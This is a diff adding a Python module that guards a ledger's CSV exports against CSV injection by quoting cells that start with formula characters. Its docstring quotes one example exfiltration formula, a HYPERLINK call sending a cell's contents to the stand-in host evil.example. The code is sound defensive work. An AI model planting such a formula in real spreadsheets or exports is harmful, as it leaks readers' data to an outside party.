@@ -1,0 +1,33 @@
+"""CSV cells that a spreadsheet will not run as formulas (CSV injection, as OWASP describes it).
+
+A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return, which
+some spreadsheets skip before such a character) is read by Excel, LibreOffice and Google Sheets
+as a formula: a subject reference ``=HYPERLINK("https://evil.example/?"&A1, "open")`` would run
+in the reader's spreadsheet. Such a cell is written with a single quote in front, which
+spreadsheets show as text and do not keep as part of the value. One function serves every CSV
+the ledger writes: the bundle's report files (which the offline verifier renders again and
+compares byte for byte) and the API's and the command line's registers.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+from typing import Any
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""
+
+
+def csv_text(text: str) -> str:
+    """``text`` as a CSV cell: a single quote in front when it would start a formula."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def csv_row(values: Iterable[Any]) -> list[Any]:
+    """A register row's values as CSV cells: lists joined with ``;``, text neutralised."""
+    cells: list[Any] = []
+    for value in values:
+        if isinstance(value, list | tuple):
+            value = ";".join(str(v) for v in value)
+        cells.append(csv_text(value) if isinstance(value, str) else value)
+    return cells
